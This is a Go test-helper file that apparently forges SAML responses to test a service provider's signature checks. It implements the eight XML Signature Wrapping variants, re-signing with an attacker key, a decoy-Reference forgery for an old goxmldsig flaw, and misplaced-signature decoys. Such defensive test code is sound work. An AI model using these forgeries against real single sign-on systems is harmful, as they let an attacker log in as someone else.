package samltest

import (
	"crypto"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"fmt"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
	"github.com/russellhaering/goxmldsig/etreeutils"
)

// Signature-wrapping edits of a response document: the eight XSW variants of Somorovsky et
// al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as SAML Raider
// numbers them, and the other ways of putting someone else's identity where a verifier might
// read it while what the IdP signed still verifies. The attacker has no IdP key: each edit
// moves, copies and changes what the IdP sent. Like the edits of hostile.go, each panics when
// the document has not the shape it edits.

// XSW applies variant n (1 to 8) to doc, with the attacker's identity as: an assertion
// naming as (its NameID, and its e-mail attributes) put where a verifier might read it, and
// the IdP's signed element kept where the signature still verifies over it.
//
//	1  the Response cloned: the clone, naming as, is the root, and keeps the Signature, in
//	   whose Object the original Response (its signature removed) goes
//	2  as 1, the original Response placed before the Signature (a detached signature)
//	3  an unsigned assertion naming as, before the signed one
//	4  as 3, the signed assertion moved inside the attacker's
//	5  the signed assertion changed to name as, its Signature kept, and an unsigned copy of
//	   the original at the end of the Response
//	6  as 5, the copy of the original inside the Signature
//	7  an unsigned assertion naming as, with the original's ID, in an Extensions
//	8  as 5, the copy of the original in an Object of the Signature
//
// Variants 1 and 2 need the Response's signature; the others use the assertion's, and leave
// the Response's as it is (DropResponseSignature removes it first).
func XSW(n int, doc string, as User) string {
	d := readDoc(doc)
	resp := d.Root()
	a := mustChild(resp, "Assertion")
	switch n {
	case 1, 2:
		sig := mustChild(resp, "Signature")
		orig := resp.Copy()
		orig.RemoveChild(mustChild(orig, "Signature"))
		resp.CreateAttr("ID", "id-evil-response")
		replace(a, unsignedAs(a, as))
		if n == 1 {
			sig.CreateElement("ds:Object").AddChild(orig)
		} else {
			resp.InsertChildAt(sig.Index(), orig)
		}
	case 3, 4:
		evil := unsignedAs(a, as)
		evil.CreateAttr("ID", "id-evil-assertion")
		resp.InsertChildAt(a.Index(), evil)
		if n == 4 {
			evil.AddChild(a)
		}
	case 5, 6, 8:
		orig := a.Copy()
		orig.RemoveChild(mustChild(orig, "Signature"))
		evil := a.Copy()
		NameAs(evil, as)
		replace(a, evil)
		switch sig := mustChild(evil, "Signature"); n {
		case 5:
			resp.AddChild(orig)
		case 6:
			sig.AddChild(orig)
		case 8:
			sig.CreateElement("ds:Object").AddChild(orig)
		}
	case 7:
		ext := etree.NewElement("samlp:Extensions")
		ext.AddChild(unsignedAs(a, as))
		resp.InsertChildAt(mustChild(resp, "Status").Index(), ext)
	default:
		panic(fmt.Sprintf("samltest: no XSW variant %d", n))
	}
	return writeDoc(d)
}

// AssertionOf is the response's plain assertion, as a document of its own (it declares its
// saml prefix itself, as samlidp writes it).
func AssertionOf(doc string) string {
	d := etree.NewDocument()
	d.SetRoot(mustChild(readDoc(doc).Root(), "Assertion").Copy())
	return writeDoc(d)
}

// UnsignedAs is the assertion document assertion (AssertionOf, or the plaintext of an
// EncryptedAssertion) without its signature, naming as instead.
func UnsignedAs(assertion string, as User) string {
	d := etree.NewDocument()
	d.SetRoot(unsignedAs(readDoc(assertion).Root(), as))
	return writeDoc(d)
}

// SignedAs is the assertion document assertion naming as, signed again with key as crewjam's
// IdP signs (enveloped, exclusive c14n, RSA-SHA256), its KeyInfo holding cert (nil: no
// KeyInfo): an attacker's own key and certificate.
func SignedAs(assertion string, as User, key *rsa.PrivateKey, cert *x509.Certificate) string {
	el := unsignedAs(readDoc(assertion).Root(), as)
	ctx := signingContext(key, cert)
	signed, err := ctx.SignEnveloped(el)
	if err != nil {
		panic(err)
	}
	if cert == nil {
		sig := mustChild(signed, "Signature")
		sig.RemoveChild(mustChild(sig, "KeyInfo"))
	}
	d := etree.NewDocument()
	d.SetRoot(signed)
	return writeDoc(d)
}

// WithDecoyReference is the assertion document assertion signed again with key as SignedAs
// signs (the IdP's key, here), its SignedInfo holding a second Reference, to "#decoy", whose
// digest is that of the assertion naming as; then the assertion is made to name as, the
// signature kept. goxmldsig before v1.6.0 checked the digest of the last Reference of a
// SignedInfo, whichever it named (GHSA-479m-364c-43vc): the assertion naming as verified. An
// IdP signs a second Reference only by mistake or design of its own; what is in it then is
// anyone's who can put content before it.
func WithDecoyReference(assertion string, as User, key *rsa.PrivateKey, cert *x509.Certificate) string {
	genuine := readDoc(assertion).Root().Copy()
	if sig := genuine.SelectElement("Signature"); sig != nil {
		genuine.RemoveChild(sig)
	}
	forged := unsignedAs(readDoc(assertion).Root(), as)
	ctx := signingContext(key, cert)
	signed, err := ctx.SignEnveloped(genuine)
	if err != nil {
		panic(err)
	}
	sig := mustChild(signed, "Signature")
	signedInfo := mustChild(sig, "SignedInfo")
	ref := mustChild(signedInfo, "Reference")
	decoy := ref.Copy()
	decoy.CreateAttr("URI", "#decoy")
	canonical, err := ctx.Canonicalizer.Canonicalize(forged)
	if err != nil {
		panic(err)
	}
	digest := sha256.Sum256(canonical)
	mustChild(decoy, "DigestValue").SetText(base64.StdEncoding.EncodeToString(digest[:]))
	signedInfo.InsertChildAt(ref.Index()+1, decoy)
	resign(sig, key)
	at := sig.Index()
	signed.RemoveChild(sig)
	forged.InsertChildAt(at, sig)
	d := etree.NewDocument()
	d.SetRoot(forged)
	return writeDoc(d)
}

// EditSignedInfo is EditSignature with key, the IdP's, signing the edited SignedInfo again
// (RSA-SHA256, as the test IdP signs): what an IdP that signed it so would send.
func EditSignedInfo(doc, path string, key *rsa.PrivateKey, edit func(sig *etree.Element)) string {
	return EditSignature(doc, path, func(sig *etree.Element) {
		edit(sig)
		resign(sig, key)
	})
}

// SignedBelow is the document doc (a Response, or an assertion as AssertionOf gives it) with
// its root signed again with key as SignedAs signs (the IdP's key, here), the new Signature
// put by place below the root, not as its child; the root's own Signature, as the IdP sent
// it, is moved to the end of the root before the signing: a decoy direct child, which names
// the root as the new one does but no longer verifies. goxmldsig verifies the first
// Signature in document order that names the element, wherever it is; a verifier that checks
// the direct child's form checks the decoy.
func SignedBelow(doc string, key *rsa.PrivateKey, cert *x509.Certificate, place func(root, sig *etree.Element)) string {
	root := readDoc(doc).Root()
	decoy := mustChild(root, "Signature")
	root.RemoveChild(decoy)
	root.AddChild(decoy)
	signed, err := signingContext(key, cert).SignEnveloped(root)
	if err != nil {
		panic(err)
	}
	// SignEnveloped appends the Signature to Child without making signed its parent.
	sig := signed.RemoveChildAt(len(signed.Child) - 1).(*etree.Element)
	place(signed, sig)
	d := etree.NewDocument()
	d.SetRoot(signed)
	return writeDoc(d)
}

// signingContext signs with key as crewjam's IdP signs (enveloped, exclusive c14n,
// RSA-SHA256), its KeyInfo holding cert (nil: none, and SignedAs removes the KeyInfo).
func signingContext(key *rsa.PrivateKey, cert *x509.Certificate) *dsig.SigningContext {
	var chain [][]byte
	if cert != nil {
		chain = [][]byte{cert.Raw}
	}
	ctx, err := dsig.NewSigningContext(key, chain)
	if err != nil {
		panic(err)
	}
	ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	if err := ctx.SetSignatureMethod(dsig.RSASHA256SignatureMethod); err != nil {
		panic(err)
	}
	return ctx
}

// resign signs the SignedInfo of sig, in its place in its document, again with key, as
// goxmldsig's ConstructSignature signs it (exclusive c14n with the namespaces in scope at its
// place, RSA-SHA256).
func resign(sig *etree.Element, key *rsa.PrivateKey) {
	signedInfo := mustChild(sig, "SignedInfo")
	nsCtx, err := etreeutils.NSBuildParentContext(signedInfo)
	if err != nil {
		panic(err)
	}
	detached, err := etreeutils.NSDetatch(nsCtx, signedInfo)
	if err != nil {
		panic(err)
	}
	canonical, err := dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("").Canonicalize(detached)
	if err != nil {
		panic(err)
	}
	sum := sha256.Sum256(canonical)
	value, err := rsa.SignPKCS1v15(nil, key, crypto.SHA256, sum[:])
	if err != nil {
		panic(err)
	}
	mustChild(sig, "SignatureValue").SetText(base64.StdEncoding.EncodeToString(value))
}

// EditSignature applies edit to the ds:Signature of the element the path selects in doc
// ("." the Response, "Assertion" its assertion): what the SignedInfo says, which the IdP
// signed, changed by someone without its key.
func EditSignature(doc, path string, edit func(sig *etree.Element)) string {
	d := readDoc(doc)
	el := d.Root()
	if path != "." {
		el = mustChild(el, path)
	}
	edit(mustChild(el, "Signature"))
	return writeDoc(d)
}

// EditDoc applies edit to the Response of doc, as an etree element.
func EditDoc(doc string, edit func(resp *etree.Element)) string {
	d := readDoc(doc)
	edit(d.Root())
	return writeDoc(d)
}

// unsignedAs is a copy of the assertion a without its Signature, naming as.
func unsignedAs(a *etree.Element, as User) *etree.Element {
	c := a.Copy()
	if sig := c.SelectElement("Signature"); sig != nil {
		c.RemoveChild(sig)
	}
	NameAs(c, as)
	return c
}

// NameAs makes the assertion a name as: its NameID, and each attribute value that is an
// e-mail address (samlidp sends the address as mail and eduPersonPrincipalName).
func NameAs(a *etree.Element, as User) {
	nameID := a.FindElement("./Subject/NameID")
	if nameID == nil {
		panic("samltest: no NameID")
	}
	nameID.SetText(as.NameID)
	for _, v := range a.FindElements("./AttributeStatement/Attribute/AttributeValue") {
		if f := v.Parent().SelectAttrValue("FriendlyName", ""); f == "mail" || f == "eduPersonPrincipalName" {
			v.SetText(as.Email)
		}
	}
}

// replace puts el in the place of old, in old's parent.
func replace(old, el *etree.Element) {
	parent, i := old.Parent(), old.Index()
	parent.RemoveChildAt(i)
	parent.InsertChildAt(i, el)
}

func mustChild(el *etree.Element, tag string) *etree.Element {
	c := el.SelectElement(tag)
	if c == nil {
		panic(fmt.Sprintf("samltest: no %s in %s", tag, el.Tag))
	}
	return c
}

func readDoc(doc string) *etree.Document {
	d := etree.NewDocument()
	if err := d.ReadFromString(doc); err != nil {
		panic(err)
	}
	return d
}

func writeDoc(d *etree.Document) string {
	s, err := d.WriteToString()
	if err != nil {
		panic(err)
	}
	return s
}
